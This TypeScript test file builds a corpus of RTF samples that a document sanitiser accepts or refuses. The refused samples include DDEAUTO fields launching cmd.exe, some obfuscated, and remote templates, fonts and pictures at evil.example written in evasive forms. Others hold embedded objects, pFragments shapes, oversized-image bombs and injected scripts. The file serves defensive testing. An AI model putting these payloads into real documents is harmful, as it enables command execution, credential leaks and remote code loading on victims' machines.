import { bitmapOf, jpegOf, png, pngOf, svg, text } from '../sample-files.ts';
import { corpusFile, refused } from './corpus-file.ts';

/** Returns a rich text. */
export function rtf(content: string): Buffer {
  return text(`{\\rtf1\\ansi\\ansicpg1250{\\fonttbl{\\f0\\froman Arial;}}${content}\\par}`);
}

/** Returns bytes as lines of hexadecimal digits. */
export function lines(bytes: Buffer): string {
  return bytes.toString('hex').replace(/.{64}/g, '$&\n');
}

const hugePng = pngOf(65_535, 65_535);
const hugeJpeg = jpegOf(65_500, 65_500);

/** Rich texts, as programs make them and as attackers do. */
export const rtfFiles = [
  corpusFile('word.rtf', 'rtf', 'With page numbers and a link', 'Known groups and fields', () =>
    rtf(
      '{\\*\\generator Microsoft Word;}{\\*\\datastore }{\\field{\\*\\fldinst PAGE }{\\fldrslt 1}}{\\field{\\*\\fldinst { HYPERLINK "https://jana.example"}}{\\fldrslt web}}\\u382?lu\\\'9d',
    ),
  ),
  corpusFile('wordpad.rtf', 'rtf', 'As WordPad and TextEdit save it', 'Known groups', () =>
    rtf('{\\*\\generator Riched20 10.0}{\\*\\expandedcolortbl;;}Jana'),
  ),
  corpusFile(
    'pictures.rtf',
    'rtf',
    'Pictures as Word, LibreOffice and WordPad write them: as digits and as bytes, a metafile, a bitmap',
    'Pictures are pictures',
    () =>
      rtf(
        [
          `{\\*\\shppict{\\pict{\\*\\picprop\\shplid1{\\sp{\\sn shapeType}{\\sv 75}}}\\picscalex100\\picw1\\pngblip\\bliptag-5{\\*\\blipuid 00ff}\n${lines(png)}}}`,
          '{\\nonshppict{\\pict\\picw1\\wmetafile8 010009000003}}',
          `{\\pict\\jpegblip ${lines(jpegOf(9, 9))}}`,
          `{\\pict\\pngblip\\bin${png.length} ${png.toString('latin1')}}`,
          `{\\pict\\dibitmap0 ${lines(bitmapOf(9))}}{\\pict\\macpict 0000000000000000000000110 2ff}{\\pict}`,
        ].join(''),
      ),
  ),
  corpusFile(
    'really-rich.doc',
    'rtf',
    'A rich text under the name of a Word document',
    'It gets the name of what it is',
    () => rtf('Jana'),
  ),
  refused('dde.rtf', 'A field that starts a program (DDEAUTO)', 'Not on the list of fields', () =>
    rtf('{\\field{\\*\\fldinst DDEAUTO c:\\\\\\\\windows\\\\\\\\cmd.exe "/k calc"}{\\fldrslt x}}'),
  ),
  refused(
    'dde-split.rtf',
    'The same, in groups and as numbers of letters',
    'Codes are put together first',
    () => rtf("{\\field{\\*\\fldinst {D}{\\'44}{\\b E}AUTO cmd}{\\fldrslt x}}"),
  ),
  refused(
    'dde-behind-group.rtf',
    'The same behind a harmless code in a group that readers pass over',
    'A code has nothing in it but its letters',
    () => rtf('{\\field{\\*\\fldinst {\\*\\generator PAGE }DDEAUTO cmd}{\\fldrslt x}}'),
  ),
  refused(
    'dde-behind-number.rtf',
    'The same behind the number of a letter, for which readers pass over the harmless code',
    'A code has no numbers of letters',
    () => rtf('{\\field{\\*\\fldinst\\uc5\\u32 PAGE DDEAUTO cmd}{\\fldrslt x}}'),
  ),
  refused(
    'dde-declared-twice.rtf',
    'The same before a second, harmless code',
    'A code is declared once',
    () => rtf('{\\field{\\*\\fldinst DDEAUTO cmd \\fldinst PAGE}{\\fldrslt x}}'),
  ),
  refused(
    'dde-in-capitals.rtf',
    'A field that starts a program (DDEAUTO), its control word in capitals',
    'Readers differ on whether case counts',
    () => rtf('{\\field{\\Fldinst DDEAUTO cmd}{\\fldrslt x}}'),
  ),
  refused('embedded-font.rtf', 'A font in a file on a share', 'All content has to be inside', () =>
    rtf(
      '{\\fonttbl{\\f1\\fnil{\\fontemb\\fttruetype{\\fontfile \\\\\\\\evil.example\\\\a.ttf}}a;}}',
    ),
  ),
  refused(
    'linked-styles.rtf',
    'Styles that are updated by a template when the text is opened',
    'Templates are refused',
    () => rtf('\\linkstyles Jana'),
  ),
  refused('page-inside.rtf', 'A page of the web, as Outlook keeps it', 'Only text is text', () =>
    rtf('\\fromhtml1{\\htmltag <script>x()</script>}'),
  ),
  refused('next-file.rtf', 'A further text on a server', 'All content has to be inside', () =>
    rtf('{\\nextfile \\\\\\\\evil.example\\\\a.rtf}'),
  ),
  refused('remote-template.rtf', 'A template on a server', 'Templates are refused', () =>
    rtf('{\\*\\template https://evil.example/a.dotm}'),
  ),
  refused(
    'links-relative-to-share.rtf',
    'A document that makes a server the place of all its links',
    'All links have to be whole',
    () => rtf('{\\info{\\hlinkbase \\\\\\\\evil.example\\\\a}}'),
  ),
  refused('object.rtf', 'An object of another program', 'Objects are refused', () =>
    rtf('{\\object\\objemb{\\*\\objdata 0105000002000000}}'),
  ),
  refused(
    'fragments.rtf',
    'A shape with the property that took over Word 2003 to 2010 (pFragments)',
    'This property is refused',
    () => rtf('{\\shp{\\sp{\\sn pFragments}{\\sv 1;1;ffff}}}'),
  ),
  refused(
    'remote-shape.rtf',
    'A shape with a picture on a server',
    'All content has to be inside',
    () => rtf('{\\shp{\\sp{\\sn pibName}{\\sv https://evil.example/a.png}}}'),
  ),
  ...[
    ['by-share', '//evil.example/s/a.png'],
    ['by-file', 'file:\\\\\\\\evil.example\\\\s\\\\a.png'],
    ['by-kernel-name', '\\\\??\\\\UNC\\\\evil.example\\\\s\\\\a.png'],
    ['by-number', 'http\\u58 ?//evil.example/a.png'],
    ['by-symbol', 'http:\\&//evil.example/a.png'],
    ['behind-group', '{\\*\\generator x}//evil.example/s/a.png'],
    ['behind-picture', '{\\pict}//evil.example/s/a.png'],
    ['before-picture', '//evil.example/s/a.png\\pict'],
    ['before-package', '//evil.example/s/a.png\\*\\svb'],
  ].map(([name, address]) =>
    refused(
      `remote-shape-${name}.rtf`,
      'The same, its address written in another way',
      'Values of shapes name no places, and there is nothing in them but letters',
      () => rtf(`{\\shp{\\*\\shpinst{\\sp{\\sn pibName}{\\sv ${address}}}}}`),
    ),
  ),
  refused(
    'object-behind-bytes.rtf',
    'An object in bytes that are announced (bin) where no picture is',
    'Readers that expect none there read on',
    () => rtf('\\bin45 {\\object\\objemb{\\*\\objdata 0105000002000000}} '),
  ),
  refused(
    'bytes-in-capitals.rtf',
    'Bytes that only some readers take for announced (BIN)',
    'Readers differ on whether case counts',
    () => rtf('\\BIN9 Jana Nova'),
  ),
  ...(
    [
      ['huge-picture', 'A picture', 'More than 100 million pixels', `\\pngblip ${lines(hugePng)}`],
      ['huge-jpeg', 'A JPEG', 'More than 100 million pixels', `\\jpegblip ${lines(hugeJpeg)}`],
      [
        'huge-bitmap',
        'A bitmap',
        'More than 100 million pixels',
        `\\dibitmap0 ${lines(bitmapOf(65_535))}`,
      ],
      [
        'huge-picture-as-bytes',
        'A picture, as bytes,',
        'More than 100 million pixels',
        `\\pngblip\\bin${hugePng.length} ${hugePng.toString('latin1')}`,
      ],
      [
        'huge-picture-as-metafile',
        'A picture, as a metafile,',
        'What a picture holds counts',
        `\\emfblip ${lines(hugePng)}`,
      ],
      [
        'huge-picture-in-group',
        'A picture, in a group of its own,',
        'Readers differ on what a group adds',
        `\\pngblip{${lines(hugePng)}}`,
      ],
      [
        'huge-picture-behind-group',
        'A picture, behind a group with the beginning of a small one,',
        'Readers differ on what a group adds',
        `\\pngblip{\\b ${lines(png)}}${lines(hugePng)}`,
      ],
      [
        'huge-picture-behind-number',
        'A picture, behind a digit that is the number of a letter,',
        'A picture has nothing in it but digits',
        `\\pngblip \\'38${lines(hugePng).slice(1)}`,
      ],
      [
        'huge-picture-of-two-formats',
        'A JPEG that is a small bitmap too',
        'Readers differ on which format counts',
        `\\dibitmap0\\jpegblip ffd8ffe01000000009000000${lines(hugeJpeg)}`,
      ],
    ] as const
  ).map(([name, holds, why, content]) =>
    refused(`${name}.rtf`, `${holds} that claims 65,500 × 65,500 pixels or more`, why, () =>
      rtf(`{\\pict${content}}`),
    ),
  ),
  refused(
    'drawing-with-script.rtf',
    'A drawing (SVG) with a script as a picture',
    'Drawings may not have scripts',
    () =>
      rtf(`{\\pict\\pngblip ${lines(text(svg.replace('<path', '<script>x()</script><path')))}}`),
  ),
  refused('program-as-picture.rtf', 'A program as a picture', 'What a picture holds counts', () =>
    rtf(`{\\pict\\pngblip ${lines(text('MZ\x90\0'))}}`),
  ),
  refused('unknown-group.rtf', 'A group that no usual program writes', 'Only known groups', () =>
    rtf('{\\*\\unheardof x}'),
  ),
  refused(
    'started-class.rtf',
    'Data of a class other than Word’s own, which is started to read them',
    'Only Word’s own',
    () => rtf('{\\*\\datastore 0105000002000000080000004f7574707574}'),
  ),
  refused(
    'started-class-behind-group.rtf',
    'The same behind data of Word’s own, in a group that readers pass over',
    'There is nothing in such data but letters',
    () =>
      rtf(
        '{\\*\\datastore{\\*\\generator 0105000002000000180000004d73786d6c322e534158584d4c5265616465722e}0105000002000000080000004f7574707574}',
      ),
  ),
  refused(
    'page-after.rtf',
    'A page of the web after the last brace',
    'Nothing may follow the end',
    () => Buffer.concat([rtf('Jana'), text('<script>x()</script>}')]),
  ),
];
